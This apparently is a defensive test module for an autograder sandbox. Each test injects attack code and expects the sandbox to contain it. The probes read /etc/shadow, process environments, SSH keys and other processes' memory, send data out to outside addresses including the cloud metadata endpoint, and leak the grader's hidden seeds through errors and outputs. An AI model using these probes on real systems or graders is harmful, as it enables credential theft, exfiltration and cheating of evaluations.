"""Attempts to learn what a submission must not know, or to tell it to somebody."""

import sys

from autograder.authoring.source import ROOT
from tests.attacks.earn import CHANNEL
from tests.attacks.workshop import EVERYTHING, LESSON, OTHERS, attack

ALL_BUT_THE_LAST = EVERYTHING[:-1]

# Raises, or returns, what the stack of the probe knows of its seed.
SEED = """
import sys
def seed_of_the_probe():
    frame = sys._getframe(1)
    while "seed" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["seed"]
"""


@attack("steal", shows="armed")
def environment(desk):
    """Prints the environment of every process that can be seen."""
    desk.trick("""
import glob, os
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        print(path, open(path, "rb").read())
    except OSError as error:
        print(path, error)
""")


@attack("steal", shows=r"found \[\]")
def files_of_others(desk):
    """Looks for notebooks, gradebooks and keys, where the grader keeps them and everywhere else."""
    world = desk.world
    desk.trick(f"""
import os
found = []
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/usr", "/dev", {sys.prefix!r}, {sys.base_prefix!r})):
        folders.clear()
    found += [os.path.join(folder, f) for f in files if f.endswith((".ipynb", ".db", ".pem", "marks.csv", "id_rsa"))]
for path in ({str(world.canary)!r}, {str(world.submitted)!r}, {str(world.out)!r}):
    if os.path.exists(path):
        found.append(path)
for path in found:
    print(open(path, "rb").read(10_000))
print("found", found)
""")


@attack("steal", shows=r"readable \[\]")
def reference_solutions(desk):
    """Reads the source of the lesson, its bank, the grader and the history of the repository."""
    paths = [
        *(ROOT / "solutions").glob("*.py"),
        ROOT / "solutions" / LESSON / f"{LESSON}.ipynb",
        *(ROOT / "autograder").rglob("*.py"),
        ROOT / ".git" / "HEAD",
        ROOT / "tests" / "conftest.py",
    ]
    shown = [str(path) for path in paths if path.parent.name != "sandbox"]
    desk.trick(f"import os\nprint('readable', [p for p in {shown!r} if os.path.exists(p)])")


@attack("steal", shows=r"leads \[\]")
def links_to_secrets(desk):
    """Makes links, and paths with dots, to files outside, and reads through them; asks other processes' roots."""
    desk.trick(f"""
import glob, os
leads = []
for i, target in enumerate(({str(desk.world.canary)!r}, "/etc/shadow", {str(ROOT / "Makefile")!r})):
    os.symlink(target, f"link{{i}}")
    ways = [f"link{{i}}", "../" * 20 + target, *(root + target for root in glob.glob("/proc/*/root"))]
    ways += [cwd + "/" + "../" * 20 + target for cwd in glob.glob("/proc/*/cwd")]
    for way in ways:
        try:
            leads.append(open(way).read())
        except OSError:
            pass
    try:
        os.link(target, f"hard{{i}}")
        leads.append(target)
    except OSError:
        pass
print("leads", leads)
""")


@attack("steal", shows=r"reached \[\]")
def network(desk):
    """Connects to servers on this machine, to its sockets, and to the world, and sends what it knows."""
    world = desk.world
    desk.trick(f"""
import socket
reached = []
tries = [(socket.AF_INET, ("127.0.0.1", {world.port})), (socket.AF_INET6, ("::1", {world.port}))]
tries += [(socket.AF_UNIX, "\\0" + {world.abstract!r}), (socket.AF_UNIX, {world.socket!r})]
tries += [(socket.AF_INET, (host, port)) for host in ("1.1.1.1", "169.254.169.254", "10.0.0.1") for port in (53, 80)]
for family, address in tries:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(0.1)
                s.connect(address)
                s.send(b"the answers")
                reached.append((address, kind))
        except OSError:
            pass
try:
    reached.append(socket.getaddrinfo("example.org", 80))
except OSError:
    pass
print("reached", [r for r in reached if r[0][0] not in ("127.0.0.1", "::1") or r[1] == socket.SOCK_STREAM])
""")


@attack("steal", shows=r"traced \[\]")
def other_processes(desk):
    """Traces its parents, reads their memory, and takes their descriptors."""
    desk.trick("""
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
numbers = {"x86_64": (101, 310, 434, 438), "aarch64": (117, 270, 434, 438)}[platform.machine()]
ptrace, read, pidfd_open, getfd = numbers
traced = []
for pid in [os.getppid(), *range(0, 200)]:
    if pid == os.getpid():
        continue
    if libc.syscall(ptrace, 16, pid, 0, 0) == 0 or libc.syscall(ptrace, 0x4206, pid, 0, 0) == 0:
        traced.append(("ptrace", pid))
    handle = libc.syscall(pidfd_open, pid, 0)
    if handle >= 0 and any(libc.syscall(getfd, handle, fd, 0) >= 0 for fd in range(10)):
        traced.append(("descriptor", pid))
    try:
        traced.append(open(f"/proc/{pid}/mem", "rb"))
    except OSError:
        pass
print("traced", traced)
""")


@attack("steal", shows="in memory: False")
def own_memory(desk):
    """Searches the interpreter's own memory, inherited from the grader's side, for the grader's secrets."""
    backwards = [desk.world.secret[::-1], str(desk.world.run_seed)[::-1]]
    desk.trick(f"""
import ctypes, re
def copies(backwards):
    needle, found = backwards[::-1].encode(), 0
    for line in open("/proc/self/maps").readlines():
        low, high, rights = re.match(r"(\\w+)-(\\w+) (\\S+)", line).groups()
        low, size = int(low, 16), int(high, 16) - int(low, 16)
        if rights.startswith("rw") and size < 1 << 27 and "[v" not in line:
            try:
                found += ctypes.string_at(low, size).count(needle)
            except (OSError, MemoryError):
                pass
    return found
usual = copies("f00dcafe0123456789abcdef")
counts = [copies(text) for text in {backwards!r}]
print(usual, counts, "in memory:", max(counts) > usual + 3)
""")


@attack("steal", shows="shared with the next one: 0")
def shared_memory(desk):
    """Looks for memory that it shares with the interpreter which the next submission is forked from."""
    desk.trick("""
shared = [line for line in open("/proc/self/maps") if line.split()[1][3] == "s" and "w" in line.split()[1]]
print(*shared, "shared with the next one:", len(shared))
""")


@attack("steal")
def seeds_before_the_probes(desk):
    """Learns the run's secret from the state of the random numbers that a notebook starts with."""
    desk.trick("""
import random, torch, numpy
print(torch.initial_seed(), random.getstate()[1][:5], numpy.random.get_state()[1][:5].tolist())
""")
    first = desk.add("import torch\nprint(torch.initial_seed(), torch.random.get_rng_state()[:32].tolist())")
    desk.notebook["cells"].remove(first)
    desk.notebook["cells"].insert(0, first)


@attack("steal", OTHERS, verdict="error", tells=True)
def seeds_in_an_error(desk):
    """Tells the secret seeds, and the inputs drawn from them, in the text of an exception."""
    desk.answer(
        SEED + "def softmax(scores, dim):\n    raise ValueError(f'the seed is {seed_of_the_probe()}, {scores}')"
    )


@attack("steal", OTHERS, verdict="error", tells=True)
def seeds_in_the_name_of_an_error(desk):
    """Tells them in the name of a class."""
    desk.answer(SEED + "def softmax(scores, dim):\n    raise type(f'Seed{seed_of_the_probe()}', (Exception,), {})()")


@attack("steal", OTHERS, verdict="error", tells=True)
def seeds_in_a_traceback(desk):
    """Tells them in the source lines of a traceback."""
    desk.answer(
        SEED
        + """
import linecache
def softmax(scores, dim):
    code = f"raise ValueError('x')  # {seed_of_the_probe()}"
    linecache.cache["seeds"] = (len(code), None, [code], "seeds")
    exec(compile(code, "seeds", "exec"))
"""
    )


@attack("steal", OTHERS, verdict="wrong", tells=True)
def seeds_in_the_kind_of_a_result(desk):
    """Tells them in what the result is said to be."""
    desk.answer(SEED + "def softmax(scores, dim):\n    return type(f'Seed{seed_of_the_probe()}', (), {})()")


@attack("steal", OTHERS, verdict="wrong|error", tells=True)
def seeds_in_a_shape(desk):
    """Tells them in the shape of the result, of which the verdict speaks."""
    desk.answer(
        SEED
        + """
def softmax(scores, dim):
    seed = seed_of_the_probe()
    return torch.zeros(seed % 997, seed // 997 % 997)
"""
    )


@attack("steal", OTHERS, verdict="wrong", tells=True)
def seeds_in_a_count(desk):
    """Tells them in how many values are not a number."""
    desk.answer(
        SEED
        + """
def softmax(scores, dim):
    weights = torch.softmax(scores, dim).clone()
    weights.flatten()[:seed_of_the_probe() % 13 + 1] = float("nan")
    return weights
"""
    )


@attack("steal", OTHERS, verdict="wrong")
def seeds_on_every_stream(desk):
    """Prints them while it is probed, in every way there is."""
    desk.answer(
        CHANNEL
        + SEED
        + """
def softmax(scores, dim):
    text = f"the seed is {seed_of_the_probe()}\\n"
    print(text, flush=True)
    print(text, file=sys.stderr, flush=True)
    for fd in (1, 2):
        os.write(fd, text.encode())
    get_ipython().display_pub.publish({"text/plain": text})
    display(text)
    for kind in ("display_data", "update_display_data", "stream"):
        content = {"name": "stdout", "text": text, "data": {"text/plain": text}, "transient": {"display_id": "told"}}
        channel.sendall(frame({"type": "output", "kind": kind, "content": content}))
    return scores
"""
    )
    desk.trick("display('nothing yet', display_id='told')")


@attack("steal", ALL_BUT_THE_LAST, of="content_address", verdict="error", tells=True)
def seeds_told_by_another_exercise(desk):
    """Answers one exercise rightly, keeps its seeds, and tells them in the error of a later one."""
    desk.solve()
    right = desk.cell("exercise", "softmax")["source"].replace("def softmax", "def true_softmax")
    desk.cell("exercise", "softmax")["source"] = f"""{SEED}
{right}
told = []
def softmax(scores, dim):
    told.append(seed_of_the_probe())
    return true_softmax(scores, dim)
"""
    desk.cell("exercise", "content_address")["source"] = "def content_address(*given):\n    raise ValueError(told)"
